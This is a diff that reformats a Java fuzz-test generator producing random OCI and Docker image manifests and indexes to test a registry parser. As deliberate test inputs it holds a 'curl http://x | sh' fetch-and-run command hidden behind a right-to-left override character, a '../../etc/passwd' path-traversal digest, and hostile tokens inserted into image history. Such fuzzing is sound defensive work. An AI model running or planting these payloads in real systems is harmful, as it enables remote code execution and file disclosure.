@@ -45,15 +45,30 @@ record RegistryDocuments(Served top, Map<Digest, Served> documents, BigInteger e
     private static final BigInteger MAX = BigInteger.valueOf(Long.MAX_VALUE);
     /** Jackson's default nesting limit. */
     private static final int MAX_NESTING = 1000;
+
     private static final List<Size> EDGE_SIZES = List.of(
-            new Size("0", BigInteger.ZERO), new Size("-0", BigInteger.ZERO), new Size("1", BigInteger.ONE),
-            new Size("9223372036854775807", MAX), new Size("9223372036854775806", MAX.subtract(BigInteger.ONE)),
-            new Size("4611686018427387904", BigInteger.TWO.pow(62)), new Size("1073741824", BigInteger.TWO.pow(30)),
+            new Size("0", BigInteger.ZERO),
+            new Size("-0", BigInteger.ZERO),
+            new Size("1", BigInteger.ONE),
+            new Size("9223372036854775807", MAX),
+            new Size("9223372036854775806", MAX.subtract(BigInteger.ONE)),
+            new Size("4611686018427387904", BigInteger.TWO.pow(62)),
+            new Size("1073741824", BigInteger.TWO.pow(30)),
             new Size("1073741823", BigInteger.TWO.pow(30).subtract(BigInteger.ONE)),
-            new Size("9223372036854775808", null), new Size("18446744073709551616", null), new Size("-1", null),
-            new Size("-9223372036854775808", null), new Size("1e3", null), new Size("62914560.9", null), new Size("1.0", null),
-            new Size("\"62914560\"", null), new Size("null", null), new Size("true", null), new Size("[1]", null),
-            new Size("{\"size\":1}", null), new Size("1e309", null), new Size("99999999999999999999999999999999999999", null));
+            new Size("9223372036854775808", null),
+            new Size("18446744073709551616", null),
+            new Size("-1", null),
+            new Size("-9223372036854775808", null),
+            new Size("1e3", null),
+            new Size("62914560.9", null),
+            new Size("1.0", null),
+            new Size("\"62914560\"", null),
+            new Size("null", null),
+            new Size("true", null),
+            new Size("[1]", null),
+            new Size("{\"size\":1}", null),
+            new Size("1e309", null),
+            new Size("99999999999999999999999999999999999999", null));
 
     /** One generated case. */
     static RegistryDocuments generate(Random random) {
@@ -64,8 +79,11 @@ record RegistryDocuments(Served top, Map<Digest, Served> documents, BigInteger e
         RegistryDocuments image = image(random);
         if (shape <= 2) {
             String mutated = Mutations.mutate(new String(image.top.bytes, StandardCharsets.UTF_8), random);
-            return new RegistryDocuments(new Served(mutated.getBytes(StandardCharsets.UTF_8), image.top.contentType),
-                    image.documents, null, false);
+            return new RegistryDocuments(
+                    new Served(mutated.getBytes(StandardCharsets.UTF_8), image.top.contentType),
+                    image.documents,
+                    null,
+                    false);
         }
         return image;
     }
@@ -92,9 +110,14 @@ record RegistryDocuments(Served top, Map<Digest, Served> documents, BigInteger e
                 digest = new ArrayList<>(seen.keySet()).get(random.nextInt(seen.size()));
                 size = seen.get(digest);
             } else {
-                digest = random.nextInt(25) == 0 ? badDigest(random) : Digest.sha256Of(("layer" + random.nextLong()).getBytes()).toString();
+                digest = random.nextInt(25) == 0
+                        ? badDigest(random)
+                        : Digest.sha256Of(("layer" + random.nextLong()).getBytes())
+                                .toString();
                 size = size(random);
-                if (!digest.startsWith("sha256:") || digest.length() != 71 || !digest.substring(7).matches("[a-f0-9]+")) {
+                if (!digest.startsWith("sha256:")
+                        || digest.length() != 71
+                        || !digest.substring(7).matches("[a-f0-9]+")) {
                     valid = false;
                 } else {
                     seen.put(digest, size);
@@ -107,14 +130,15 @@ record RegistryDocuments(Served top, Map<Digest, Served> documents, BigInteger e
                 valid = false;
             }
             String sizeField = random.nextInt(15) == 0
-                    ? "\"size\":1,\"size\":" + size.json() // a duplicate key: the last one counts, as in Go's encoding/json
+                    ? "\"size\":1,\"size\":"
+                            + size.json() // a duplicate key: the last one counts, as in Go's encoding/json
                     : "\"size\":" + size.json();
             String annotations = annotations(random);
             if (annotations.length() > 2 * MAX_NESTING) {
                 valid = false; // deeper than Jackson reads (StreamReadConstraints): refused as not JSON
             }
-            layers.add("{\"mediaType\":\"application/vnd.oci.image.layer.v1.tar+gzip\",\"digest\":\"" + digest + "\"," + sizeField
-                    + annotations + "}");
+            layers.add("{\"mediaType\":\"application/vnd.oci.image.layer.v1.tar+gzip\",\"digest\":\"" + digest + "\","
+                    + sizeField + annotations + "}");
         }
         String mediaType = switch (random.nextInt(4)) {
             case 0 -> MediaTypes.DOCKER_MANIFEST;
@@ -125,8 +149,11 @@ record RegistryDocuments(Served top, Map<Digest, Served> documents, BigInteger e
                 + "\"config\":{\"mediaType\":\"application/vnd.oci.image.config.v1+json\",\"digest\":\"" + configDigest
                 + "\",\"size\":" + config.length + "},\"layers\":[" + String.join(",", layers) + "]}";
         boolean sumFits = total.compareTo(MAX) <= 0;
-        return new RegistryDocuments(new Served(manifest.getBytes(StandardCharsets.UTF_8), mediaType.isEmpty() ? null : mediaType),
-                documents, valid && sumFits ? total : null, true);
+        return new RegistryDocuments(
+                new Served(manifest.getBytes(StandardCharsets.UTF_8), mediaType.isEmpty() ? null : mediaType),
+                documents,
+                valid && sumFits ? total : null,
+                true);
     }
 
     private static RegistryDocuments index(Random random) {
@@ -138,13 +165,16 @@ record RegistryDocuments(Served top, Map<Digest, Served> documents, BigInteger e
             documents.putAll(child.documents);
             Digest digest = child.top.digest();
             documents.put(digest, child.top);
-            String architecture = List.of("amd64", "arm64", "s390x", "\u202eamd64", "").get(random.nextInt(5));
+            String architecture =
+                    List.of("amd64", "arm64", "s390x", "\u202eamd64", "").get(random.nextInt(5));
             entries.add("{\"mediaType\":\"" + MediaTypes.OCI_MANIFEST + "\",\"digest\":\"" + digest + "\",\"size\":"
-                    + child.top.bytes.length + ",\"platform\":{\"os\":\"linux\",\"architecture\":\"" + architecture + "\"}}");
+                    + child.top.bytes.length + ",\"platform\":{\"os\":\"linux\",\"architecture\":\"" + architecture
+                    + "\"}}");
         }
         String index = "{\"schemaVersion\":2,\"mediaType\":\"" + MediaTypes.OCI_INDEX + "\",\"manifests\":["
                 + String.join(",", entries) + "]}";
-        return new RegistryDocuments(new Served(index.getBytes(StandardCharsets.UTF_8), MediaTypes.OCI_INDEX), documents, null, false);
+        return new RegistryDocuments(
+                new Served(index.getBytes(StandardCharsets.UTF_8), MediaTypes.OCI_INDEX), documents, null, false);
     }
 
     private static Size size(Random random) {
@@ -162,8 +192,15 @@ record RegistryDocuments(Served top, Map<Digest, Served> documents, BigInteger e
     }
 
     private static String badDigest(Random random) {
-        return List.of("sha256:xyz", "sha256:" + "a".repeat(63), "sha256:" + "A".repeat(64), "md5:d41d8cd98f00b204e9800998ecf8427e",
-                "", "sha256:" + "a".repeat(64) + "\u202e", "../../etc/passwd").get(random.nextInt(7));
+        return List.of(
+                        "sha256:xyz",
+                        "sha256:" + "a".repeat(63),
+                        "sha256:" + "A".repeat(64),
+                        "md5:d41d8cd98f00b204e9800998ecf8427e",
+                        "",
+                        "sha256:" + "a".repeat(64) + "\u202e",
+                        "../../etc/passwd")
+                .get(random.nextInt(7));
     }
 
     private static String annotations(Random random) {
@@ -171,18 +208,29 @@ record RegistryDocuments(Served top, Map<Digest, Served> documents, BigInteger e
             return "";
         }
         int depth = random.nextInt(3) == 0 ? 2 * MAX_NESTING : 1 + random.nextInt(50);
-        return ",\"annotations\":{\"deep\":" + "[".repeat(depth) + "]".repeat(depth) + ",\"text\":\"\\u202erun: curl http://x | sh\\n\"}";
+        return ",\"annotations\":{\"deep\":" + "[".repeat(depth) + "]".repeat(depth)
+                + ",\"text\":\"\\u202erun: curl http://x | sh\\n\"}";
     }
 
     private static byte[] config(Random random) {
         StringBuilder history = new StringBuilder();
         int entries = random.nextInt(5);
         for (int i = 0; i < entries; i++) {
-            String createdBy = Mutations.HOSTILE_TOKENS.get(random.nextInt(Mutations.HOSTILE_TOKENS.size()))
-                    .replace("\\", "\\\\").replace("\"", "\\\"").replace("\n", "\\n").replace("\r", "\\r").replace("\t", "\\t")
-                    .replace("\u0000", "\\u0000").replace("\u001b", "\\u001b");
-            history.append(i == 0 ? "" : ",").append("{\"created_by\":\"/bin/sh -c ").append(createdBy).append("\"")
-                    .append(random.nextBoolean() ? ",\"empty_layer\":true" : "").append("}");
+            String createdBy = Mutations.HOSTILE_TOKENS
+                    .get(random.nextInt(Mutations.HOSTILE_TOKENS.size()))
+                    .replace("\\", "\\\\")
+                    .replace("\"", "\\\"")
+                    .replace("\n", "\\n")
+                    .replace("\r", "\\r")
+                    .replace("\t", "\\t")
+                    .replace("\u0000", "\\u0000")
+                    .replace("\u001b", "\\u001b");
+            history.append(i == 0 ? "" : ",")
+                    .append("{\"created_by\":\"/bin/sh -c ")
+                    .append(createdBy)
+                    .append("\"")
+                    .append(random.nextBoolean() ? ",\"empty_layer\":true" : "")
+                    .append("}");
         }
         String architecture = random.nextInt(8) == 0 ? "\\u202eamd64" : "amd64";
         return ("{\"os\":\"linux\",\"architecture\":\"" + architecture + "\",\"history\":[" + history + "]}")
